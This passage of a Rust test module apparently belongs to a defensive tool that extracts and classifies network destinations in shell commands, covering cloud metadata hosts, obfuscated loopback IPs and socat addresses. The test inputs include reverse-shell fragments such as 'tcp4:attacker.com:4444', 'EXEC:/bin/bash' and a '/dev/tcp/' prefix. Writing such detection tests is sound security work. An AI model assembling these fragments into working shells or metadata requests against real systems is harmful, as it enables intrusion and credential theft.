        check("[fd00:ec2::254]:80", "fd00:ec2::254", Some(80), Metadata);
    }

    #[test]
    fn near_misses_are_not_destinations() {
        for s in [
            "./a/b.py",
            "/etc/hosts",
            "src/foo.bar",
            "1.2.3",
            "==2.31.0",
            "requests==2.31.0",
            "pkg>=1.2.3.4",
            "pkg==1.2.3.4",
            "~1.2.3.4",
            "os.path.join",
            "np.array",
            "file.tar.gz",
            "pkg-1.2.3.4.tar.gz",
            "v1.2.3.4",
            "12:30",
            "12:30:45",
            "16:9",
            "1.5:1",
            "2024-01-01T12:30:00Z",
            "src/main.rs:42",
            "main.rs:42",
            "tests/test_x.py::test_foo",
            "test_x.py:10:5",
            "config.yaml:3",
            "README.md:10",
            "uvicorn main:app",
            "app.main:app",
            "std::io::Result",
            "f32::EPSILON",
            "a[1::2]",
            "x[::2]",
            "s[::-1]",
            "dead::beef",
            "00:1a:2b:3c:4d:5e",
            "10.0.0.0/8",
            "fd00::/8",
            "python3.11",
            "example.com",
            "attacker.com",
            "myserver",
            "http",
            "[host]",
            "--port=8080",
            "a.b",
            "x.y.z",
        ] {
            none(s);
        }
    }

    #[test]
    fn lists_and_paths() {
        assert_eq!(hosts("10.0.0.1,10.0.0.2"), ["10.0.0.1", "10.0.0.2"]);
        assert_eq!(hosts("//10.0.0.3/share"), ["10.0.0.3"]);
        none("-A 'Mozilla/5.0 (X11) Chrome/120.0.0.0 Safari/537.36'");
        none("/srv/releases/1.2.3.4/bin");
    }

    /// Arbitrary text, including multibyte characters next to every
    /// delimiter, must never panic (all slicing is at ASCII positions).
    #[test]
    fn no_panics_on_noise() {
        let alphabet: Vec<char> = "a1.:@/[]%\"',-_ x0f\u{e9}\u{3002}\u{ff11}\u{1f600}"
            .chars()
            .collect();
        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
        for _ in 0..5_000 {
            let len = (seed >> 60) as usize + 1;
            let mut s = String::new();
            for _ in 0..len * 2 {
                seed = seed
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                s.push(alphabet[(seed >> 33) as usize % alphabet.len()]);
            }
            for prefix in ["", "http://", "u@", "/dev/tcp/"] {
                let t = format!("{prefix}{s}");
                for d in extract(&t, false).into_iter().chain(extract(&t, true)) {
                    assert!(t.contains(&d.text), "{t:?} {d:?}");
                }
            }
        }
    }

    #[test]
    fn positional_hosts() {
        let d = one("attacker.com", true);
        assert_eq!(
            (d.host.as_str(), d.class, d.port),
            ("attacker.com", Public, None)
        );
        assert_eq!(one("myserver", true).host, "myserver");
        assert_eq!(one("localhost", true).class, Loopback);
        let d = one("root@10.0.0.7:2222", true);
        assert_eq!(
            (d.host.as_str(), d.port, d.class),
            ("10.0.0.7", Some(2222), Private)
        );
        assert_eq!(d.text, "root@10.0.0.7:2222");
        let d = one("2130706433", true);
        assert_eq!(
            (d.host.as_str(), d.class, d.obfuscated_ip),
            ("127.0.0.1", Loopback, true)
        );
        assert_eq!(one("0x7f000001", true).host, "127.0.0.1");
        assert_eq!(one("127.1", true).host, "127.0.0.1");
        assert_eq!(one("0", true).class, Unspecified);
        assert_eq!(one("::1", true).class, Loopback);
        assert_eq!(one("[fe80::1%eth0]", true).class, LinkLocal);
        assert_eq!(one("example.com/path", true).host, "example.com");
        assert_eq!(one("host.example:/tmp", true).host, "host.example");
        assert_eq!(one("METADATA.GOOGLE.INTERNAL.", true).class, Metadata);
        let d = one("ssh://me@box.lan:22", true);
        assert_eq!(
            (d.host.as_str(), d.scheme.as_deref()),
            ("box.lan", Some("ssh"))
        );
        assert_eq!(one("192.168.1.1-254", true).class, Private);
        assert_eq!(one("10.0.0.0/24", true).host, "10.0.0.0");
        // socat addresses: the keyword is not a host, the word scan finds the real one.
        let d = one("TCP:10.0.0.1:4444", true);
        assert_eq!((d.host.as_str(), d.port), ("10.0.0.1", Some(4444)));
        let d = one("tcp4:attacker.com:4444", true);
        assert_eq!((d.host.as_str(), d.port), ("attacker.com", Some(4444)));
        for not_host in ["EXEC:/bin/bash", "TCP-LISTEN:4444,fork", "STDIO", "exec:sh"] {
            assert!(extract(not_host, true).is_empty(), "{not_host:?}");
        }
        for not_host in [
            "-p",
            "--",
            "",
            "./a",
            "/etc/hosts",
            "dir/file",
            "$HOST",
            "<host>",
            "[host]",
        ] {
            assert!(extract(not_host, true).is_empty(), "{not_host:?}");
        }
    }

    #[test]
    fn hosts_helper_lists_all() {
        assert_eq!(
            hosts("scp a.txt root@10.0.0.2:/tmp && curl http://x.example/"),
            ["10.0.0.2", "x.example"]
        );
        assert!(hosts("ls -la").is_empty());
    }

    #[test]
    fn pathological_inputs_are_bounded() {
        let long = "a:".repeat(50_000);
        assert!(extract(&long, false).is_empty());
        let dots = "1.".repeat(50_000);
        assert!(extract(&dots, false).is_empty());
        let at = "a@".repeat(50_000);
        assert!(extract(&at, false).is_empty());
        let urls = "http://".repeat(10_000);
        assert!(extract(&urls, false).len() <= 1);
        let many = "http://a.example ".repeat(10_000);
        assert_eq!(extract(&many, false).len(), 10_000);
        // Non-ASCII around and inside words must not panic on slicing.
        for s in [
            "é@ü:1",
            "ü.example.com:80",
            "[é]",
            "１２７。０。０。１:80",
            "a@[é",
            "\u{0}:\u{0}",
        ] {
            let _ = extract(s, false);
            let _ = extract(s, true);
        }
    }
}
